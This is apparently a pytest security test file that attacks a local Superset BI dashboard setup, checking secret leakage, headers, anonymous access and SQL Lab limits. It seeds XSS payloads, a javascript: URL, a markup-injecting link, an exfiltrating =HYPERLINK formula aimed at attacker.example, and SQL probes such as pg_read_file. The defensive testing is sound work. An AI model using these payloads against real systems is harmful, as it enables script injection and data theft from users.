"""Attacks on the BI dashboards (docs/bi.md) as an outsider and an unlucky user would make them:
Superset 6.1 from `.local/bi/venv`, started by `social_crm_dev.bi.running` as `make bi` starts
it, the committed bundle imported by `bi.provision` as the BI login, against a warehouse of its
own (real embedded PostgreSQL, the migrations applied) whose marts hold what a customer can
write: a message text with HTML in it. Each test is one property the change promises; a
failing one is a finding (the report lists them)."""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import socket
import sqlite3
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import psycopg
import pytest
import requests
import yaml
from psycopg import sql

from social_crm.serve import superset
from social_crm.settings import WarehouseUrl
from social_crm.warehouse import migrations
from social_crm.warehouse.bi_login import ensure_login
from social_crm_dev import bi
from tests.conftest import REPO
from tests.databases import new_database
from tests.ui import browser as ui

pytestmark = pytest.mark.integration

BUNDLE = REPO / "bi" / "superset"
RENDER_TIMEOUT_MS = 120_000
ATTACKER = "attacker.example"  # a host outside this machine: the browser records, then aborts
# what any X user can post at the brand, as it lands in marts.open_conversations.message_text
PIXEL_MESSAGE = f'hi <img src="https://{ATTACKER}/pixel.png?who=agent"> help please'
LINK_MESSAGE = f'your refund: <a href="https://{ATTACKER}/refund">verify your account</a>'
SCRIPT_MESSAGE = '<img src=x onerror="window.__xss_text=1">'
JS_URL = "javascript:window.__xss_link=1"
# a platform link with a quote in it: the dataset's message_link pastes it into an <a href="">
URL_ATTACKER = "url-attacker.example"
QUOTED_URL = f'https://www.instagram.com/p/x"><img src="https://{URL_ATTACKER}/p.png'
# a spreadsheet formula, as a customer can write it; CSV exports must not hand it to Excel
FORMULA_MESSAGE = '=HYPERLINK("https://attacker.example/?leak="&A1,"open")'


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _create_marts(conn: psycopg.Connection) -> None:
    """Every mart the bundle's datasets read, with the columns the datasets list (a physical
    column each; the computed ones are Superset's)."""
    for path in sorted(BUNDLE.glob("datasets/*/*.yaml")):
        dataset = yaml.safe_load(path.read_text(encoding="utf-8"))
        columns = [c for c in dataset["columns"] if not c.get("expression")]
        conn.execute(
            sql.SQL("create table if not exists marts.{} ({})").format(
                sql.Identifier(dataset["table_name"]),
                sql.SQL(", ").join(
                    sql.SQL("{} {}").format(sql.Identifier(c["column_name"]), sql.SQL(c["type"]))
                    for c in columns
                ),
            )
        )
        conn.execute(
            sql.SQL("grant select on marts.{} to bi_reader").format(
                sql.Identifier(dataset["table_name"])
            )
        )


def _queue_row(conn: psycopg.Connection, position: int, text: str, url: str) -> None:
    conn.execute(
        "insert into marts.open_conversations (queue_position, priority, channel, brand_key,"
        " message_type, occurred_at, waited_business_seconds, sla_target_seconds,"
        " is_sla_breached, sentiment, message_text, message_url)"
        " values (%s, 'high', 'instagram', 'ours', 'comment', now(), 60, 3600, false,"
        " 'negative', %s, %s)",
        (position, text, url),
    )


ERASURE_REQUESTS = 7  # people who asked to be erased: how many is itself theirs to withhold


def _erasure_requests(conn: psycopg.Connection, count: int) -> None:
    """`count` erasure requests in raw, as the CRM export lands them (their batch's foreign
    key left out: session_replication_role replica, as a superuser may)."""
    conn.execute("set session_replication_role = replica")
    for n in range(count):
        conn.execute(
            "insert into raw.crm_erasure_requests (natural_key, payload, payload_hash,"
            " extracted_at, batch_id) values (%s, '{}', %s, now(), gen_random_uuid())",
            (f"customer-{n}", f"hash-{n}"),
        )
    conn.execute("set session_replication_role = origin")
    conn.execute("analyze raw.crm_erasure_requests")


@pytest.fixture(scope="module")
def world(warehouse_url) -> Iterator[WarehouseUrl]:
    """A warehouse of its own: the migrations, the marts the dashboards read, and a queue whose
    messages carry what a customer or a platform link can hold."""
    with new_database(warehouse_url) as url:
        with psycopg.connect(url.libpq(), autocommit=True) as conn:
            migrations.apply(conn)
            _create_marts(conn)
            _queue_row(conn, 1, PIXEL_MESSAGE, "https://www.instagram.com/p/one/")
            _queue_row(conn, 2, LINK_MESSAGE, "https://www.instagram.com/p/two/")
            _queue_row(conn, 3, SCRIPT_MESSAGE, JS_URL)
            _queue_row(conn, 4, FORMULA_MESSAGE, QUOTED_URL)
            _erasure_requests(conn, ERASURE_REQUESTS)
        yield WarehouseUrl.parse(url.libpq())


class ProcessWatch:
    """Every process command line on this machine, sampled until stopped (what `ps -ef`
    shows any local user)."""

    def __init__(self) -> None:
        self.seen: set[str] = set()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            for proc in Path("/proc").glob("[0-9]*"):
                try:
                    line = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
                except OSError:
                    continue
                self.seen.add(line)
            time.sleep(0.02)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> set[str]:
        self._stop.set()
        self._thread.join()
        return self.seen


@dataclass
class Served:
    server: bi.RunningSuperset
    client: superset.Client
    dashboards: list[superset.Dashboard]
    bi_password: str
    secret_key: str
    port: int
    command_lines: set[str] = field(default_factory=set)


@pytest.fixture(scope="module")
def served(world, tmp_path_factory) -> Iterator[Served]:
    """Superset as `make bi` starts it (admin created, bundle imported as the BI login), every
    command line on the machine watched while it starts and imports."""
    bi_user, bi_password = f"bi_attack_{os.getpid()}", secrets.token_urlsafe(16)
    with psycopg.connect(world.libpq()) as conn:
        ensure_login(conn, bi_user, bi_password)
    admin_password, secret_key = secrets.token_urlsafe(16), secrets.token_urlsafe(32)
    home, port = tmp_path_factory.mktemp("superset"), _free_port()
    watch = ProcessWatch()
    watch.start()
    try:
        with bi.running(home, port, admin_password, secret_key) as server:
            dashboards = bi.provision(server, world, bi_user, bi_password)
            client = superset.Client(server.url, server.admin_user, admin_password)
            seen = watch.stop()
            yield Served(server, client, dashboards, bi_password, secret_key, port, seen)
    finally:
        watch.stop()


@dataclass
class CareVisit:
    requests: list[str]
    javascript_links: int
    outside_links: list[str]
    xss_flags: dict[str, object]


@pytest.fixture(scope="module")
def care_visit(served, tmp_path_factory) -> CareVisit:
    """The Customer care dashboard opened in headless Chromium as its admin, once its queue
    table has rendered the messages."""
    with ui.browser(tmp_path_factory.mktemp("chromium")) as context:
        page = context.new_page()
        page.goto(f"{served.server.url}/login/")
        page.locator("input#username, input[name=username]").first.fill(served.server.admin_user)
        page.locator("input#password, input[name=password]").first.fill(
            served.server.admin_password
        )
        page.keyboard.press("Enter")
        page.wait_for_url(lambda url: "/login" not in url)
        with ui.visit(context, f"{served.server.url}/superset/dashboard/customer-care/") as (
            care,
            seen,
        ):
            care.get_by_text("help please").first.wait_for(timeout=RENDER_TIMEOUT_MS)
            care.wait_for_load_state("networkidle")
            care.wait_for_timeout(1000)
            links = care.locator("a").evaluate_all("els => els.map(e => e.href)")
            flags = care.evaluate(
                "() => ({text: window.__xss_text || null, link: window.__xss_link || null})"
            )
            before_clicks = list(seen.requests)
            # a click on every link the queue shows, as an agent opening the message would
            for anchor in care.locator("td a").all():
                with contextlib.suppress(Exception):  # a link that opens nothing is fine here
                    anchor.click(timeout=2000)
            flags.update(care.evaluate("() => ({after_click: window.__xss_link || null})"))
            return CareVisit(
                requests=before_clicks,
                javascript_links=sum(1 for href in links if href.startswith("javascript:")),
                outside_links=[href for href in links if ATTACKER in href],
                xss_flags=flags,
            )


# --- secrets ---------------------------------------------------------------------------


def test_admin_password_never_appears_in_a_process_listing(served):
    shown = [line for line in served.command_lines if served.server.admin_password in line]
    assert shown == [], f"the admin password is on a command line: {shown[0][:120]}..."


def test_bi_login_password_never_appears_in_a_process_listing(served):
    assert not [line for line in served.command_lines if served.bi_password in line]


def test_secret_key_never_appears_in_a_process_listing(served):
    assert not [line for line in served.command_lines if served.secret_key in line]


def _action_log(served: Served) -> list[str]:
    path = served.server.home / "superset.db"
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
        return [row[0] or "" for row in db.execute("select json from logs")]


def test_bi_login_password_is_not_kept_in_supersets_action_log(served):
    kept = [entry for entry in _action_log(served) if served.bi_password in entry]
    assert kept == [], f"Superset's logs table keeps the BI password: {kept[0][:160]}"


def test_bi_login_password_is_not_shown_by_supersets_log_api(served):
    answer = served.client.http.get(
        f"{served.server.url}/api/v1/log/?q=(page_size:100)", timeout=60
    )
    assert served.bi_password not in answer.text


def test_bi_login_password_is_not_in_supersets_server_log(served):
    text = (served.server.home / "superset.log").read_text(encoding="utf-8", errors="replace")
    assert served.bi_password not in text


def test_exported_dashboards_hold_no_bi_password(served):
    ids = [d["id"] for d in served.client.get("/api/v1/dashboard/", "dashboards")["result"]]
    answer = served.client.http.get(
        f"{served.server.url}/api/v1/dashboard/export/?q=!({','.join(map(str, ids))})",
        timeout=120,
    )
    assert answer.ok and served.bi_password.encode() not in answer.content


# --- the login page and the session --------------------------------------------------


def test_superset_pages_send_a_content_security_policy(served):
    answer = requests.get(f"{served.server.url}/login/", timeout=30)
    assert "Content-Security-Policy" in answer.headers


def test_superset_pages_cannot_be_framed_by_another_site(served):
    headers = requests.get(f"{served.server.url}/login/", timeout=30).headers
    framing = headers.get("X-Frame-Options", "") + headers.get("Content-Security-Policy", "")
    assert (
        "DENY" in framing.upper()
        or "SAMEORIGIN" in framing.upper()
        or ("frame-ancestors" in framing)
    )


def test_an_anonymous_visitor_reads_no_chart_data(served):
    answer = requests.post(
        f"{served.server.url}/api/v1/chart/data",
        json={
            "datasource": {"id": 1, "type": "table"},
            "queries": [{"columns": ["message_text"], "row_limit": 10}],
        },
        timeout=30,
    )
    assert answer.status_code >= 400 and "help please" not in answer.text


def test_an_anonymous_visitor_sees_no_dashboard(served):
    answer = requests.get(
        f"{served.server.url}/api/v1/dashboard/customer-care", timeout=30, allow_redirects=False
    )
    assert answer.status_code in {401, 403, 404}


def test_superset_listens_on_this_machine_only(served):
    outward = socket.gethostbyname(socket.gethostname())
    if outward.startswith("127."):
        pytest.skip("this machine has no address but loopback")
    with socket.socket() as sock:
        sock.settimeout(2)
        assert sock.connect_ex((outward, served.port)) != 0


# --- what a customer writes, on the Customer care dashboard -------------------------------


def test_a_customer_message_makes_the_care_dashboard_load_nothing_from_outside(care_visit):
    fetched = [url for url in care_visit.requests if ATTACKER in url]
    assert fetched == [], f"opening the queue fetched {fetched}"


def test_a_message_url_with_a_quote_adds_no_markup_to_the_queue(care_visit):
    fetched = [url for url in care_visit.requests if URL_ATTACKER in url]
    assert fetched == [], f"opening the queue fetched {fetched}"


def test_a_customer_message_adds_no_link_of_its_own_to_the_queue(care_visit):
    assert care_visit.outside_links == []


def test_no_link_on_the_queue_runs_javascript(care_visit):
    assert care_visit.javascript_links == 0


def test_no_script_in_a_message_or_its_link_runs_in_the_agents_browser(care_visit):
    assert care_visit.xss_flags == {"text": None, "link": None, "after_click": None}


def test_a_csv_export_of_the_queue_hands_no_formula_to_a_spreadsheet(served):
    listed = served.client.get("/api/v1/dataset/?q=(page_size:100)", "datasets")["result"]
    dataset = next(d["id"] for d in listed if d["table_name"] == "open_conversations")
    answer = served.client.http.post(
        f"{served.server.url}/api/v1/chart/data",
        json={
            "datasource": {"id": dataset, "type": "table"},
            "queries": [{"columns": ["message_text"], "row_limit": 10}],
            "result_format": "csv",
            "result_type": "full",
        },
        timeout=60,
    )
    assert answer.ok and "HYPERLINK" in answer.text  # the message is in the export
    cells = [line.strip().strip('"') for line in answer.text.splitlines()]
    assert not [cell for cell in cells if cell.startswith("=")]


def test_an_anonymous_visitor_gets_no_guest_token(served):
    answer = requests.post(
        f"{served.server.url}/api/v1/security/guest_token/",
        json={
            "user": {"username": "guest"},
            "resources": [{"type": "dashboard", "id": "customer-care"}],
            "rls": [],
        },
        timeout=30,
    )
    assert answer.status_code >= 400 and "guest" not in answer.text.lower()


# --- SQL Lab as the BI login ------------------------------------------------------------


def _sql_lab(served: Served, query: str) -> tuple[int, str]:
    database = served.client.get("/api/v1/database/", "databases")["result"][0]["id"]
    answer = served.client.http.post(
        f"{served.server.url}/api/v1/sqllab/execute/",
        json={"database_id": database, "sql": query, "runAsync": False, "schema": "marts"},
        timeout=60,
    )
    return answer.status_code, answer.text


@pytest.mark.parametrize(
    "query",
    [
        "select count(*) from raw.crm_erasure_requests",
        "select count(*) from meta.erasure_log",
        "select pg_read_file('PG_VERSION')",
        "set search_path = raw; select count(*) from crm_erasure_requests",
        "select * from marts.open_conversations; select count(*) from raw.crm_customers",
    ],
    ids=["raw", "meta", "server_file", "search_path", "second_statement"],
)
def test_sql_lab_as_the_bi_login_reads_nothing_outside_marts(served, query):
    status, body = _sql_lab(served, query)
    assert status >= 400, f"SQL Lab answered {status}: {body[:200]}"


@pytest.mark.parametrize(
    "query",
    ["select reltuples::int as n from pg_class where relname = 'crm_erasure_requests'"],
    ids=["pg_class"],
)
def test_sql_lab_as_the_bi_login_cannot_count_the_erasure_requests(served, query):
    status, body = _sql_lab(served, query)
    counted = [row.get("n") for row in json.loads(body).get("data") or []] if status == 200 else []
    assert ERASURE_REQUESTS not in counted, f"the BI login counted {counted} erasure requests"


def test_sql_lab_cannot_write_to_the_warehouse(served):
    status, _ = _sql_lab(served, "create table marts.planted (x int)")
    assert status >= 400


def test_a_second_superset_on_a_taken_port_is_refused(served, tmp_path):
    """`make bi` run again while the first still serves: it must fail, not report the first
    Superset's URLs as its own and exit 0 when its gunicorn cannot bind."""
    with pytest.raises(bi.BiError):
        with bi.running(
            tmp_path / "second", served.port, secrets.token_urlsafe(16), secrets.token_urlsafe(32)
        ) as second:
            second.process.wait(timeout=120)  # a second server that did not start


def test_a_port_another_program_holds_is_named_in_the_error(tmp_path):
    """`make bi` when something else listens on SOCIAL_CRM_BI_PORT: the user is told which
    port is taken, not only that Superset stopped."""
    with socket.socket() as other:
        other.bind(("127.0.0.1", 0))
        other.listen()
        port = other.getsockname()[1]
        with pytest.raises(bi.BiError) as refused:
            with bi.running(
                tmp_path / "taken", port, secrets.token_urlsafe(16), secrets.token_urlsafe(32)
            ):
                pass
    assert str(port) in str(refused.value)
